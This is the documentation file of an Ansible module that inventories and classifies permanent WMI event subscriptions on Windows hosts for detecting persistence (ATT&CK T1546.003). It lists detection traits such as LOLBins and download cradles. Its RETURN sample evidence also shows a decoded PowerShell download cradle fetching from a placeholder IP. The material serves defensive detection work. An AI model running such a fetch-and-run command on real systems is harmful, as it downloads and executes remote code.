# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)

# This file holds the documentation only: the module is the action plugin plugins/action/event_subscription_info.py,
# which reads the options below as its argument spec and runs winsec.wmi.wmi_state on the host.

DOCUMENTATION = r"""
module: event_subscription_info
short_description: Inventory and classify permanent WMI event subscriptions (MITRE ATT&CK T1546.003)
version_added: 0.1.0
description:
  - Lists the permanent event subscriptions of a Windows host - event filters (C(__EventFilter)), logical consumers
    (instances of C(CommandLineEventConsumer), C(ActiveScriptEventConsumer), C(LogFileEventConsumer),
    C(NTEventLogEventConsumer), C(SMTPEventConsumer) or any other consumer class) and the
    C(__FilterToConsumerBinding) instances that link them - in one round trip per host (no fact gathering needed).
  - Bindings are joined to filters by name and to consumers by class B(and) name, as WMI keys them. A
    C(CommandLineEventConsumer) named like the built-in C(NTEventLogEventConsumer) "SCM Event Log Consumer" is a
    different consumer and is not treated as built-in.
  - Classifies every consumer as V(builtin) (created by Windows, see O(builtin)), V(allowed) (matches O(allowed)),
    V(suspicious) (with the reasons - a consumer class that runs code, encoded PowerShell (decoded and scanned), a
    LOLBin such as mshta, rundll32, regsvr32, certutil or bitsadmin, a download cradle, a network or user-writable
    path, script text that starts programs) or V(unrecognised) (none of these, e.g. a log-file consumer nobody
    allow-listed).
  - Reports orphans - bindings to a filter or consumer that does not exist, filters and consumers bound to nothing.
  - Changes nothing. To remove a subscription use M(winsec.wmi.event_subscription).
options:
  namespaces:
    description:
      - The namespaces to inventory. Permanent subscriptions usually live in V(root\\subscription); some software and
        attackers use V(root\\default) or any other namespace, so by default every namespace is read (V(root) with
        O(recurse=true)); the host lists them and queries each in the same round trip.
      - To look at some namespaces only, name them and set O(recurse=false); RV(compliant) then speaks for those
        namespaces only.
    type: list
    elements: str
    default: ['root']
  recurse:
    description:
      - Also inventory every namespace below each one in O(namespaces).
    type: bool
    default: true
  allowed:
    description:
      - Subscriptions you expect, classified V(allowed). A consumer matches by namespace, class and name;
        O(allowed[].filter), O(allowed[].query) and O(allowed[].command_line) narrow the match when given.
      - A match does not vouch for what the consumer runs unless the entry pins it. A consumer whose command line,
        executable path or script shows a suspicious trait stays V(suspicious) when the entry matching it does not
        pin that field, with a reason (C(allow_list_unpinned)) saying so; otherwise someone who rewrites an allowed
        consumer's command line (for example into an encoded PowerShell download) would stay compliant. Pin the
        command line with O(allowed[].command_line); an executable path or a script cannot be pinned, so such a
        consumer is allowed only while they show no suspicious trait. The same rule applies to O(builtin).
    type: list
    elements: dict
    default: []
    suboptions:
      consumer:
        description: The consumer's C(Name).
        type: str
        required: true
      consumer_class:
        description:
          - The consumer's class, for example V(LogFileEventConsumer). Required so that a consumer of another class
            given the same name does not match.
        type: str
        required: true
      namespace:
        description: The namespace the consumer lives in.
        type: str
        default: root\subscription
      filter:
        description: The name of the filter it must be bound to.
        type: str
      query:
        description: The filter's query it must be bound to (compared case-insensitively, whitespace collapsed).
        type: str
      command_line:
        description: The consumer's C(CommandLineTemplate) (compared case-insensitively, whitespace collapsed).
        type: str
      description:
        description: Why it is allowed; returned in RV(subscriptions[].known_as).
        type: str
  builtin:
    description:
      - Replaces the list of subscriptions Windows itself creates. By default that list depends on the host's
        version - Windows Vista / Server 2008 and later - "SCM Event Log Filter" bound to the
        C(NTEventLogEventConsumer) "SCM Event Log Consumer" in V(root\\subscription) with the query
        C(select * from MSFT_SCMEventLogEvent); Windows 2000, XP and Server 2003 - "BVTFilter" bound to the
        C(CommandLineEventConsumer) "BVTConsumer" running C(cscript KernCap.vbs). The default list is returned in
        RV(builtin).
      - Give V([]) to treat nothing as built-in.
    type: list
    elements: dict
    suboptions:
      consumer:
        description: The consumer's C(Name).
        type: str
        required: true
      consumer_class:
        description: The consumer's class.
        type: str
        required: true
      namespace:
        description: The namespace the consumer lives in.
        type: str
        default: root\subscription
      filter:
        description: The name of the filter it must be bound to.
        type: str
      query:
        description: The filter's query.
        type: str
      command_line:
        description: The consumer's C(CommandLineTemplate).
        type: str
      description:
        description: What it is.
        type: str
notes:
  - Listing subscriptions needs Enable on each namespace (Administrators have it). A namespace in O(namespaces) that
    cannot be read, or does not exist, fails the task with the WMI error named (for example
    C(WBEM_E_INVALID_NAMESPACE)). With O(recurse=true), a namespace below them that cannot be read is listed in
    RV(namespace_errors) and the others are still read; the host is then never reported compliant.
  - No Microsoft page lists the subscriptions Windows creates; the default O(builtin) list is what a clean installation
    holds and what incident-response tools treat as known-good. Each entry is pinned to its class, namespace and
    query or command line.
  - Baseline control WMI-020 (M(winsec.wmi.baseline)) runs the same classification.
seealso:
  - module: winsec.wmi.event_subscription
  - module: winsec.wmi.wmi_state
  - name: MITRE ATT&CK T1546.003
    description: Event Triggered Execution - Windows Management Instrumentation Event Subscription.
    link: https://attack.mitre.org/techniques/T1546/003/
  - name: Receiving Events at All Times
    description: Microsoft's description of permanent event consumers, filters and bindings.
    link: https://learn.microsoft.com/en-us/windows/win32/wmisdk/receiving-events-at-all-times
  - name: Monitoring and Responding to Events with Standard Consumers
    description: The five standard consumer classes.
    link: https://learn.microsoft.com/en-us/windows/win32/wmisdk/monitoring-and-responding-to-events-with-standard-consumers
author:
  - winsec.wmi developers (@winsec)
extends_documentation_fragment:
  # Ours first: for an attribute that several fragments set, the first one listed wins.
  - winsec.wmi.wmi_action
  - ansible.builtin.action_common_attributes
  - ansible.builtin.action_common_attributes.flow
attributes:
  check_mode:
    support: full
    details: The module only reads; it runs the same in check mode.
  diff_mode:
    support: none
"""

EXAMPLES = r"""
- name: Inventory permanent WMI event subscriptions
  winsec.wmi.event_subscription_info:
  register: wmi_subscriptions

- name: Fail when a host has a suspicious event consumer
  ansible.builtin.assert:
    that:
      - wmi_subscriptions.counts.suspicious == 0
    fail_msg: "{{ wmi_subscriptions.findings | map(attribute='message') | list }}"

- name: Every namespace, with the backup agent's consumer allowed
  winsec.wmi.event_subscription_info:
    namespaces:
      - root
    recurse: true
    allowed:
      - consumer: DiskSpaceLog
        consumer_class: LogFileEventConsumer
        description: Operations team's low-disk log
"""

RETURN = r"""
subscriptions:
  description:
    - One entry per binding (with the filter and consumer it links, either null when missing) and one per consumer no
      binding links.
  returned: success
  type: list
  elements: dict
  contains:
    name:
      description: "The subscription in words, C(namespace: filter -> ConsumerClass.ConsumerName)."
      type: str
      sample: 'root\subscription: SCM Event Log Filter -> NTEventLogEventConsumer.SCM Event Log Consumer'
    classification:
      description: V(builtin), V(allowed), V(suspicious) or V(unrecognised).
      type: str
      sample: suspicious
    bound:
      description: Whether a binding links the consumer to a filter (an unbound consumer never runs).
      type: bool
    reasons:
      description: Why it is suspicious, each C({id, severity, message, evidence}), most serious first.
      type: list
      elements: dict
      sample:
        - id: encoded_powershell
          severity: high
          message: The command line runs an encoded PowerShell command
          evidence: "decoded: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
    filter:
      description: The filter as read (see RV(filters)), or null.
      type: dict
    consumer:
      description: The consumer as read (see RV(consumers)), or null.
      type: dict
    binding:
      description: The binding as read (see RV(bindings)), or null for an unbound consumer.
      type: dict
    problems:
      description: What is missing or could not be joined.
      type: list
      elements: str
    known_as:
      description: The description of the built-in or allow-list entry it matched.
      type: str
filters:
  description: Every event filter, C({namespace, name, query, query_language, event_namespace, creator_sid}).
  returned: success
  type: list
  elements: dict
consumers:
  description:
    - Every consumer, C({namespace, name, class, command_line_template, executable_path, script_text,
      script_file_name, scripting_engine, properties}); C(properties) holds every other property set (for example
      C(Filename) of a C(LogFileEventConsumer)).
  returned: success
  type: list
  elements: dict
bindings:
  description: Every binding, C({namespace, filter, consumer, consumer_class}).
  returned: success
  type: list
  elements: dict
orphans:
  description: C(bindings) to a missing filter or consumer, C(filters) and C(consumers) bound to nothing.
  returned: success
  type: dict
counts:
  description: The number of consumers per classification.
  returned: success
  type: dict
  sample: {builtin: 1, allowed: 0, suspicious: 2, unrecognised: 0}
findings:
  description:
    - V(suspicious_event_consumer) and V(unrecognised_event_consumer) (each with C(state) V(active) or V(inactive),
      C(reasons) and C(message)), V(orphan_binding), V(orphan_filter) and V(namespace_unreadable).
  returned: success
  type: list
  elements: dict
finding_count:
  description: The number of findings.
  returned: success
  type: int
compliant:
  description:
    - Whether every consumer is built-in or allow-listed and every namespace could be read (baseline control WMI-020).
  returned: success
  type: bool
builtin:
  description: The built-in list used for this host (O(builtin) or the default for its Windows version).
  returned: success
  type: list
  elements: dict
namespace_errors:
  description:
    - With O(recurse=true), the namespaces that could not be read, each C({namespace, error}) with the named error.
  returned: success
  type: list
  elements: dict
namespaces:
  description: The namespaces asked for (with O(recurse), their descendants were read too).
  returned: success
  type: list
  elements: str
os:
  description: OS facts read in the same round trip (see M(winsec.wmi.unsecapp_lockdown)).
  returned: success
  type: dict
msg:
  description: A one-line summary.
  returned: always
  type: str
error:
  description: The named target error when the subscriptions could not be listed.
  returned: failure
  type: dict
"""
